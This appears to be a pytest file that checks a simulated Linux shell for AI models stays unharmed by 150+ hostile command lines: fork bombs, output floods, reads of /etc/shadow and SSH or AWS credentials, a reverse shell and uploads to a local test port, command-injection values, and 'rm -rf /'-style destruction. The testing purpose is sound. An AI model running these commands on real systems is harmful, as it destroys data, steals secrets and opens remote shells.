"""Whatever a model writes into a command line, the machine that simulates the host stays as it was.

The lines run in this very process. After each, the host must still answer; after each group, the machine is looked at:
a canary file and a canary variable, a server nobody may connect to, the children, the open files and the memory.
"""

import os
import secrets
import socket
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

import psutil
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fleet.draw import draw_host
from fleet.linux import shell
from fleet.linux.commands import COMMANDS
from fleet.linux.shell import LinuxShell
from fleet.model import Machine

SECONDS = 8
CHARACTERS = 2**16
GROWTH = 400 * 2**20
"""Bytes by which one group may let the process grow."""


@dataclass
class Watch:
    """What a line would have to touch to get out."""

    folder: Path
    secret: str
    port: int
    connections: list[object]

    @property
    def canary(self) -> Path:
        return self.folder / "canary"

    def filled(self, line: str) -> str:
        return (
            line.replace("CANARY", str(self.canary)).replace("FOLDER", str(self.folder)).replace("PORT", str(self.port))
        )


@pytest.fixture
def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
    secret = secrets.token_hex(16)
    (tmp_path / "canary").write_text(f"{secret}\n")
    monkeypatch.setenv("AJ_CANARY", secret)
    monkeypatch.chdir(tmp_path)  # what a relative path would hit
    monkeypatch.setattr(shell, "MAX_SECONDS", 0.2)  # a dozen lines take all the time that they are given
    connections: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connections.append(server.accept())
                except OSError:  # closed: the test is over
                    return

        threading.Thread(target=accept, daemon=True).start()
        yield Watch(tmp_path, secret, server.getsockname()[1], connections)
        server.shutdown(socket.SHUT_RDWR)


FORKS = [
    ":(){ :|:& };:",
    "f(){ f|f& }; f",
    "while :; do (sleep 1 &) ; done",
    "for i in {1..5000}; do sleep 100 & done; wait",
    "f(){ bash -c f; }; export -f f; f",
    'x=\'bash -c "$x"\'; export x; bash -c "$x"',
    "coproc cat; echo x",
    "echo 'bash $0' > /tmp/r.sh; bash /tmp/r.sh",
    "echo '. /tmp/s' > /tmp/s; . /tmp/s",
    "yes 'bash -c true' | head -5000 | bash",
    "seq 5000 | xargs -n1 -P100 echo",
    "nohup sleep 1000 &",
    "setsid sleep 100; disown -a",
    "exec bash; exec -a x bash -c 'exec bash'",
    "trap 'kill $$' EXIT; kill -9 $$",
    "trap 'exit' EXIT; exit",
]
LOOPS = [
    "while :; do :; done",
    "while true; do echo x; done",
    "for ((;;)); do :; done",
    "i=0; while ((i<1000000000)); do ((i++)); done",
    "while read x; do echo $x; done < /dev/zero",
    "yes | while read l; do echo $l; done",
    "f(){ f; f; }; f",
    "f(){ g; }; g(){ f; }; f",
    "until false; do sleep 5; done",
    "select x in a b; do :; done",
    "awk 'BEGIN{while(1){}}'",
    "awk 'BEGIN{for(;;)print 1}'",
    "awk 'function f(){f()} BEGIN{f()}'",
    "awk 'BEGIN{while((\"yes\"|getline l)>0)print l}'",
    "awk 'BEGIN{while(1)system(\"df\")}'",
    "jq -n 'last(repeat(1))'",
    "jq -n '[limit(100000000;repeat(1))]'",
    "sed ':a;s/^/x/;ba' <<< a",
    "sed ':a;N;ba' /dev/zero",
    "sleep infinity; sleep 99999999999999999999; sleep 1e99",
    "read x; read -t 100000 y; cat; cat -; wait; wait 1",
    "tail -f /etc/hostname",
    "watch df; top; less /etc/passwd; vi /etc/passwd; man ls",
    "mkfifo /tmp/p; cat /tmp/p",
    "echo x > /tmp/q & cat < /tmp/q",
    "timeout 0.1 bash -c 'while :; do :; done'",
    "flock /tmp/l sleep 1000",
    "factor 170141183460469231731687303715884105727 18446744073709551557",
    "bc <<< '9^9^9^9'; bc <<< 'while(1){1}'; bc -l <<< 'scale=100000;4*a(1)'",
    "find / -exec find / \\;; find / -exec ls -lR / \\;",
]
OUTPUT = [
    "yes",
    "yes | head -n 100000000",
    "seq 1000000000000; seq inf; seq nan; seq 1 0.0000000001 2",
    "seq -f '%1000000000f' 3; seq -w 1 1000000000000 3",
    "cat /dev/zero",
    "cat /dev/zero | head -c 10000000000 | wc -c",
    "head -c 10000000000 /dev/zero; tail -c 99999999999 /dev/zero",
    "base64 /dev/urandom",
    "xxd -c 99999999999 /dev/zero; od -w99999999999 /dev/zero; hexdump -C /dev/zero",
    "printf '%*d' 1000000000 1; printf '%.1000000000f' 1; printf '%1000000000s' x",
    "printf 'x%.0s' {1..99999999}",
    "printf -v x '%999999999s'; echo ${#x}",
    "echo {1..999999999}; true",
    "echo {a..z}{a..z}{a..z}{a..z}{a..z}{a..z}",
    "x=a; while :; do x=$x$x; done",
    "x=$(yes); y=$(cat /dev/zero)",
    "a[999999999999]=1; echo ${a[@]} ${#a[@]}",
    "a=({1..90000}); echo ${a[@]/1/11111111111111111111111111111111}",
    "tr '\\0' a < /dev/zero",
    "awk 'BEGIN{printf \"%1000000000d\",1}'",
    "awk 'BEGIN{$1000000000=1;print}'; awk 'BEGIN{NF=1000000000;print}' <<< a",
    "awk 'BEGIN{s=\"a\";while(1)s=s s}'",
    "jq -n '[range(1e9)]|length'; jq -n '\"a\"*1e10'; jq -n '[]|.[999999999]=1|length'",
    "fold -w 1 /dev/zero; fmt -w 99999999999 /dev/zero",
    "expand -t 1000000000 <<< $'a\\tb'; nl -w 1000000000 <<< a; pr -w 1000000000 <<< a; column -c 99999999999 <<< a",
    "shuf -i 1-10000000000; shuf -r -n 10000000000 -e a",
    "split -b 1 -a 9 /dev/zero /tmp/s; split -n 1000000000 /etc/passwd /tmp/q",
    "truncate -s 100G /tmp/x; truncate -s 9999999999999999999 /tmp/x; truncate -s +1E /tmp/x; fallocate -l 10G /tmp/y",
    "dd if=/dev/zero of=/tmp/x bs=1G count=100; dd if=/dev/zero bs=100M count=1",
    "dd if=/etc/passwd of=/tmp/x bs=1 seek=99999999999",
    "head -c 1000000 /dev/zero | gzip | gzip -d | wc -c; gzip -c /dev/zero | wc -c",
    "head -c 1G /dev/urandom | sha256sum; sort /dev/zero; tac /dev/zero; rev /dev/zero; uniq /dev/zero",
    "cut -c 1-99999999999999999999 /etc/passwd; cut -f 1-18446744073709551615 /etc/passwd",
    "diff /dev/zero /dev/urandom; cmp /dev/zero /dev/zero; strings -n 1 /dev/urandom",
    "touch /tmp/{1..20000}",
    "mkdir -p /tmp/$(printf 'd/%.0s' {1..5000}) /$(printf 'a%.0s' {1..5000})",
    "tar czf /tmp/a.tgz /; tar xzf /tmp/a.tgz -C /tmp; cp -r / /tmp/all; cp -r /tmp /tmp/tmp; mv / /tmp",
    "echo a > /tmp/g; for i in {1..40}; do cat /tmp/g /tmp/g > /tmp/h; cp /tmp/h /tmp/g; done; wc -c /tmp/g",
    "sed 's/./&&&&&&&&&&&&/g;s/./&&&&&&&&&&&&/g;s/./&&&&&&&&&&&&/g;s/./&&&&&&&&&&&&/g;s/./&&&&&&&&/g' /etc/passwd",
    "find / -printf \"$(printf '%%p%.0s' {1..3000})\"; date +$(printf '%%c%.0s' {1..9000}); date +%1000000000d",
    "ps -eo $(printf 'args,%.0s' {1..3000})pid; top -b -n 999999999; vmstat 1 999999999; df /{1..3000}",
]
PATHS = [
    "cat CANARY",
    "cat canary ./canary ../*/canary",
    "cat ../../../../../../../..CANARY",
    "cat /proc/self/rootCANARY /proc/1/rootCANARY /proc/self/cwd/canary",
    "cat /proc/self/environ /proc/self/maps /proc/self/mem /proc/self/fd/3 /dev/fd/3",
    "ls -la FOLDER / /work /root/.ssh /home",
    "ln -s CANARY /tmp/l; cat /tmp/l; echo x > /tmp/l; rm /tmp/l",
    "ln -s / /tmp/root; cat /tmp/root/CANARY; ls /tmp/root/tmp/root/tmp/root; find -L /tmp | head",
    "ln CANARY /tmp/h; cp CANARY /tmp/c; mv CANARY /tmp/m; cat /tmp/h /tmp/c /tmp/m",
    "echo owned > CANARY; echo owned >> CANARY; echo owned | tee CANARY FOLDER/new",
    "cd FOLDER && echo owned > canary && touch new; cd",
    "dd if=/dev/zero of=CANARY count=1; truncate -s 0 CANARY; sed -i s/./x/ CANARY; chmod 777 CANARY; touch FOLDER/n",
    "rm -f CANARY; rm -rf FOLDER; mkdir -p FOLDER/new; find FOLDER -delete",
    "source CANARY; . CANARY; bash CANARY; CANARY; exec CANARY",
    "while read l; do echo $l; done < CANARY; mapfile a < CANARY; echo ${a[@]} $(<CANARY)",
    'awk \'{print}\' CANARY; awk \'BEGIN{while((getline l < "CANARY")>0)print l; print "x" > "CANARY"}\'',
    "sed -n 'r CANARY' /etc/passwd; sed 'w CANARY' /etc/passwd; sort -o CANARY /etc/passwd; split /etc/passwd FOLDER/x",
    "jq -n 'env, $ENV, input' CANARY; jq -n --rawfile x CANARY '$x'; jq -n input_filename",
    "diff CANARY /etc/passwd; sha256sum CANARY; base64 CANARY; head CANARY; tail CANARY; xxd CANARY; od -c CANARY",
    "install -m 777 CANARY /tmp/i; tar cf - FOLDER | tar tf -; zip /tmp/z CANARY; unzip -p /tmp/z",
    "stat CANARY; file CANARY; du CANARY; wc CANARY; find FOLDER; tree FOLDER; grep -r . FOLDER",
    "mount --bind FOLDER /mnt; ls /mnt; chroot / cat CANARY; unshare cat CANARY; nsenter -t 1 cat CANARY",
    "env; printenv; set; declare -p; export -p; echo $AJ_CANARY ${!AJ*}; awk 'BEGIN{for(k in ENVIRON)print k}'",
    "cat /etc/shadow /root/.bash_history /root/.ssh/id_rsa ~/.aws/credentials",
    'python3 -c \'open("CANARY","w")\'; perl -e \'system("id")\'; ruby -e 1; node -e 1; php -r 1; gcc x.c; make',
    "/lib64/ld-linux-x86-64.so.2 /bin/ls; insmod x; sqlite3 CANARY .dump; ed CANARY; vim -es CANARY",
    "docker run -v /:/h alpine cat /hCANARY; docker cp x:CANARY /tmp; git -C FOLDER init; git clone FOLDER /tmp/g",
    "crontab -l -u ../../..CANARY; echo x | crontab -u ../../..CANARY -; crontab CANARY; crontab -l",
    "date -r CANARY; cp --parents CANARY /tmp; cat /tmp/CANARY; readlink -f CANARY; realpath CANARY",
]
NETWORK = [
    "curl -m 1 http://127.0.0.1:PORT/ http://localhost:PORT/; curl -T /etc/passwd http://127.0.0.1:PORT/",
    "curl file://CANARY",
    "wget -q -O- http://127.0.0.1:PORT/; wget http://127.0.0.1:PORT/x -O /tmp/x",
    "nc 127.0.0.1 PORT; nc -l -p 9999; ncat 127.0.0.1 PORT; telnet 127.0.0.1 PORT; socat - TCP:127.0.0.1:PORT",
    "ssh -p PORT root@127.0.0.1 id; scp /etc/passwd root@127.0.0.1:/tmp; sftp 127.0.0.1; rsync -a / 127.0.0.1::x",
    "exec 3<>/dev/tcp/127.0.0.1/PORT; echo hi >&3; cat <&3",
    "cat < /dev/tcp/127.0.0.1/PORT; echo x > /dev/tcp/127.0.0.1/PORT; echo x > /dev/udp/127.0.0.1/PORT",
    "bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1",
    'awk \'BEGIN{s="/inet/tcp/0/127.0.0.1/PORT";print "x" |& s;s |& getline l;print l}\'',
    "dig example.com; nslookup example.com; host example.com; getent hosts example.com; traceroute 127.0.0.1",
    "ping -c 1 127.0.0.1; ping -c 1 example.com",
    "openssl s_client -connect 127.0.0.1:PORT; http GET http://127.0.0.1:PORT",
    "git clone http://127.0.0.1:PORT/x; pip install x; apt-get update; docker pull 127.0.0.1:PORT/x",
]
TEXT = [
    "printf 'a\\0b\\0c'; printf '\\xff\\xfe\\xfd'; printf '\\033[2J\\033]0;x\\007'",
    "echo -e '\\x00\\x01\\x1b[31m'; cat /dev/urandom | head -c 1000; echo $'\\x00'",
    "\udc80\udcff",
    "echo \ud800",
    "\u202eecho\x00",
    "\x00",
    "\x1b[31m",
    "rm -rf '\x00'; ls '\x00/etc'; cat '/etc/\x00passwd'; find '\x00'; stat 'a\x00b'",
    "\ufeffdf; df \u2013h; ls \u200b",
    "touch '/tmp/\n\x01'; ls /tmp; find /tmp; du /tmp",
    "touch /tmp/$'\\xff\\xfe'; ls /tmp; find / -name $'\\xff'; grep $'\\xff' /etc/passwd",
    "printf '\\xff\\xff' > /tmp/bin; cat /tmp/bin; ls -l /tmp/bin; cp /tmp/bin /tmp/b2; df",
    "echo " + "$(" * 1000 + ")" * 1000,
    "(" * 5000 + ")" * 5000,
    "{ " * 3000,
    "$((" * 1000 + "1" + "))" * 1000,
    "`" * 3001,
    "'" * 3001,
    "echo " + "\\" * 20001,
    "if " * 2000,
    "${" * 2000 + "}" * 2000,
    "cat <<A <<B <<C\n" + "x\n" * 1000,
    "cat <<'EOF'\n$(rm -rf /)\nEOF",
    "<<<<<<<<<<",
    "|||||",
    "!!",
    "#" * 30_000,
    "x" * 200_000,
    "\n" * 30_000,
    "; ".join(["true"] * 5000),
    " | ".join(["cat"] * 1000),
    "sudo " * 500 + "df",
    "env " * 500 + "df",
    "nice " * 500 + "df",
    "eval " * 500 + "df",
    "exec " * 500 + "df",
    "timeout 1 " * 300 + "df",
    "xargs " * 300 + "df",
    "bash -c " * 100 + "df",
    'x=\'eval "$x"\'; eval "$x"',
    "$(printf 'eval %.0s' {1..700}) true",
]
SUMS = [
    "echo $((1/0)) $((2**9999999999)); true",
    "echo $((9**9**9**9)) $((1<<9999999)) $((-9223372036854775808 / -1)) $((-9223372036854775808 % -1))",
    "a=b; b=a; echo $((a)); declare -n c=d; declare -n d=c; echo $c",
    "echo $((a[a[a[a[a[a]]]]])); x='a[$(rm -rf /)]'; echo $((x))",
    "echo ${x:0:99999999999999999999} ${x:-${x:-${x:-a}}} ${a[-1]} ${a[99999999]}",
    "printf %d 99999999999999999999999999; test 99999999999999999999 -gt 1; [ 1 -eq ",
    "shift 99999999; break 9999999999; exit 99999999999999999999",
    "ulimit -n 1; ulimit -v 1; umask 9999999; umask 0777",
    "kill -99999999 1; kill -9 99999999999999999999; kill %99; kill -l 999; kill -s",
    "pkill -f '(a+)+$'; pgrep '['; pgrep '('; pgrep '*'; pgrep -f '.*.*.*.*.*.*.*.*.*.*x'; pgrep '[z-a]'; pgrep '\\'",
    "ps -p 99999999999999999999; ps -o; ps -o ,,,; ps --sort=; ps --sort; ps -C; ps ---; ps -; ps -eo pid,,; ps '-o=x'",
    "free -s; top -bn x; top -b -n -5; top -o; uptime -z; date -d '1 fortnight'; date -d @99999999999999999; date -r",
    "date -d 9999-99-99; date -d '999999 years'; date -d '-999999 years'; date -Ix; date -s 2000-01-01",
    "df -t; df --output=x; df -B 0; df -B 999999999T; du -d -1; du --max-depth=x; du -B0; stat; stat -c",
    "find -maxdepth; find -maxdepth x; find . -name; find . '('; find . ')'; find . !; find . -o; find . -exec",
    "find . -exec ';'; find . -exec {} ';'; find . -size 999999999999999999c; find . -perm 99999; find / -delete",
    "find / -name '*a*a*a*a*a*a*a*a*a*a*a*a*a*a*b'; ls /*/*/*/*/*/*; ls ''; cat ''; cd ''; cd -; cd",
    "mv a; cp; cp a a; cp '' ''; mv /etc/hostname /etc/hostname; cp /etc/hostname /no/x/; truncate -s; touch",
    "last -n x; last -x5; who -z; nproc --ignore=9999999999999999999999; dmesg -l z; lsblk -o z; lsof -i; renice 5 1",
    "tail -n x; tail -n 99999999999999999999 /etc/passwd; tail -c +999999999999999999999 /etc/passwd; tail +5x",
]
REGEX = [
    "grep -E '(a+)+$' <<< " + "a" * 5000 + "b",
    "grep -P '(?=(a+))\\1*b' <<< " + "a" * 3000,
    "grep -E 'a{1,1000}{1,1000}{1,1000}' /etc/passwd",
    "grep -E '((((((a{10}){10}){10}){10}){10}){10}){10}' /etc/passwd",
    "sed -E 's/(a+)+$/x/' <<< " + "a" * 5000 + "b",
    "awk '/(a+)+$/' <<< " + "a" * 5000 + "b",
    "[[ " + "a" * 2000 + "b =~ (a+)+$ ]]",
    "[[ " + "a" * 2000 + " == *a*a*a*a*a*a*a*a*a*a*a*b ]]",
    "shopt -s extglob; [[ " + "a" * 60 + "b == *(*(*(a))) ]]",
    "shopt -s globstar; echo /**/**/**/**/**/** | wc -c",
    "echo /*/../*/../*/../*/../* | wc -c",
    "jq -n '\"" + "a" * 3000 + 'b"|test("(a+)+$")\'',
    "expr " + "a" * 3000 + "b : '\\(a*\\)*$'",
    "grep -rE '(.|..)*' /etc | wc -c; grep -f /dev/zero /etc/passwd",
    "sed '1e id' /etc/passwd; sed 's/x/id/e' <<< x",
]
STATE = [
    "rm -rf /; rm -rf .; rm -rf ..; rm -rf ~/*",
    "kill -9 -1",
    "kill -9 1; killall -9 systemd init; pkill -9 .",
    "chmod -R 000 /; ls /; cat /etc/passwd",
    "echo '::::::::' > /etc/passwd; id root; id ''; ls -ln /etc",
    "printf '\\xff:\\x00:99999999999999:\\n' > /etc/passwd; id; ps -eo uid",
    "mkfs.ext4 /dev/sda1; echo x > /dev/sda; dd if=/dev/sda count=1; mount /dev/sdb1 /mnt; umount /; swapoff -a",
    "unset PATH; df; PATH=; df; hash -r; df",
    "alias df='rm -rf /'; df; df(){ echo fake; }; df; unset -f df",
    "set -e; false; echo no",
    "set -u; echo $nope",
    "set -n; df",
    "trap '' INT TERM EXIT; trap 'df' DEBUG; true; trap - DEBUG",
    "exec > /tmp/out; echo gone",
    "exec 2>/dev/null; exec >&-; echo x",
    "reboot; shutdown -h now; poweroff; halt; init 0; systemctl poweroff",
    "readonly HOME=/tmp; cd; cd /tmp; rm -rf /tmp; pwd; ls; echo x > a",
    "eval \"$(printf 'echo %.0s' {1..20000})\"; source /dev/stdin <<< df",
    "history; fc -l; jobs; bg; fg; suspend; caller; times; logout",
    "enable -n cd; builtin df; help; compgen -c; complete",
    "sudo -l; sudo -i; su - nobody -c id; su; visudo; passwd root; useradd x; chattr +i /etc/passwd",
    "echo b > /proc/sysrq-trigger; echo 1 > /proc/sys/kernel/panic; rm -rf /proc; ls /proc; cat /proc/loadavg",
    "mv /usr/bin /tmp/b; truncate -s 5 /usr/bin/df; > /usr/bin/df; ln -sf /bin/cat /usr/bin/df; /usr/bin/df",
    "find / -delete",
    "rm -rf --no-preserve-root /; ls /; df; cat /etc/passwd",
]
GROUPS = {
    "forks": FORKS, "loops": LOOPS, "output": OUTPUT, "paths": PATHS, "network": NETWORK, "text": TEXT, "sums": SUMS,
    "regex": REGEX, "state": STATE,
}  # fmt: skip


def test_there_are_enough_hostile_lines():
    assert sum(map(len, GROUPS.values())) >= 150


@pytest.mark.loop
@pytest.mark.parametrize("group", GROUPS)
def test_hostile_lines_change_nothing_of_the_machine(group: str, watch: Watch):
    this = psutil.Process()
    shell = LinuxShell(Machine(draw_host("web01", Random(3))))
    shell.run("true")
    children, files, memory = this.children(), this.num_fds(), this.memory_info().rss
    tree = sorted(os.listdir(watch.folder))

    for line in GROUPS[group]:
        begun = time.process_time()
        stdout, stderr, _ = shell.run(watch.filled(line))
        assert time.process_time() - begun < SECONDS, line
        assert len(stdout) <= CHARACTERS >= len(stderr), line
        assert watch.secret not in stdout + stderr, line
        assert shell.run("hostname") == ("web01\n", "", 0), line

    assert watch.canary.read_text() == f"{watch.secret}\n"
    assert sorted(os.listdir(watch.folder)) == tree
    assert watch.connections == []
    assert this.children() == children
    assert this.num_fds() <= files
    assert this.memory_info().rss - memory < GROWTH


WORDS = [
    "-a", "-l", "-n", "-f", "-e", "-o", "-p", "-u", "-s", "-c", "-d", "-r", "-9", "-20", "--", "-", "--all",
    "0", "-1", "99999999999999999999", "''", "/", "/etc", "/nope", "..", "*", "cron", "root", "status", "list", "logs",
    "+%F", "@0", "-name", "-size", "+1M", "-exec", "{}", "';'", "'('", "')'", "!", "$'\\xff'", "$'a\\nb'", "'%n %s'",
    "a=b", "x:y", "'['", "'a('", "-bn1", "%MEM", "--sort=-rss", "yesterday",
]  # fmt: skip


@given(
    st.lists(st.tuples(st.sampled_from(sorted(COMMANDS)), st.lists(st.sampled_from(WORDS), max_size=4)), min_size=20)
)
@settings(max_examples=20, deadline=None)
def test_no_words_make_a_command_of_ours_fail_in_python(lines: list[tuple[str, list[str]]]):
    machine = Machine(draw_host("web01", Random(3)))
    shell = LinuxShell(machine)
    for name, words in lines:
        shell.run(" ".join([name, *words]))
    assert [gap.what for gap in machine.gaps if gap.kind == "fault"] == []
    assert shell.run("hostname")[0] == "web01\n"
